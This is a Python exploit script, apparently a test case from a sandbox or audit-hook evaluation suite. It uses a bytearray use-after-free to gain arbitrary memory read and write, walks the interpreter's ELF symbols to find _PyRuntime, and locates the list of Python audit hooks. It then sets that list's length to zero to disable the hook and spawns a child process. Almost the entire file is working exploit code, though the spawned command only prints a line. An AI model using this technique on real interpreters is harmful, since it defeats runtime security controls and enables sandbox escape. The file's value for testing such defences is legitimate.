# family: memory_corruption
# reaches: process
# layer: runtime
# static: denied
# The same bytearray use-after-free (GH-91153) gives read and write of all memory. The program
# finds _PyRuntime in the interpreter's symbols, the main interpreter state from it (the block
# that points at sys.modules), and in it the list of Python audit hooks (one function named
# "hook"); setting that list's length to 0 removes the gate's hook. Then it spawns a process.
import os
import struct
import sys


class Shrink:
    def __index__(self):
        global memory
        victim.clear()
        memory = bytearray()  # its object lands in the buffer just freed
        victim.extend([0] * 56)
        return 1


memory = bytearray()
for attempt in range(20):
    victim = bytearray(56)
    victim[23] = Shrink()  # writes the top byte of memory's ob_size, after the buffer was freed
    if len(memory):
        break


MAPS = []
for line in open("/proc/self/maps"):
    lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
    if line.split()[1].startswith("r"):
        MAPS.append((lo, hi))


def readable(addr, n=8):
    return any(lo <= addr and addr + n <= hi for lo, hi in MAPS)


def q(addr):
    if not readable(addr):
        raise ValueError(hex(addr))
    return struct.unpack("<Q", memory[addr:addr + 8])[0]


def exe_symbol(name):
    path = os.readlink("/proc/self/exe")
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:
            strtab = sections[s[6]][4]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, off)
                start = strtab + st_name
                if data[start:data.index(b"\0", start)] == name:
                    return value


runtime = exe_symbol(b"_PyRuntime")
modules = id(sys.modules)
interp = 0
for off in range(0, 0x100, 8):
    p = q(runtime + off)
    if p > 0x10000:
        if not readable(p, 0x4000):
            continue
        blob = memory[p:p + 0x4000]
        if struct.pack("<Q", modules) in blob:
            interp = p
            break
list_type, func_type = id(list), id(type(lambda: 0))
hooks_slot = None
for off in range(0, 0x40000 if interp else 0, 8):
    p = q(interp + off)
    if p < 0x10000 or p & 7:
        continue
    try:
        if q(p + 8) != list_type or q(p + 16) != 1:
            continue
        func = q(q(p + 24))  # the list's only item
        if q(func + 8) != func_type:
            continue
        name = q(func + 32)
    except ValueError:
        continue
    if readable(name + 48, 4):
        text = bytes(memory[name + 48:name + 52])
        if text == b"hook":
            hooks_slot = interp + off
            break
if hooks_slot is not None:  # with no run-time layer there is no hook to remove
    hooks = q(hooks_slot)
    memory[hooks + 16:hooks + 24] = struct.pack("<Q", 0)  # the list of audit hooks is now empty
pid = os.posix_spawn(sys.executable, [sys.executable, "-c", "print('child process')"], {})
print(os.waitpid(pid, 0))
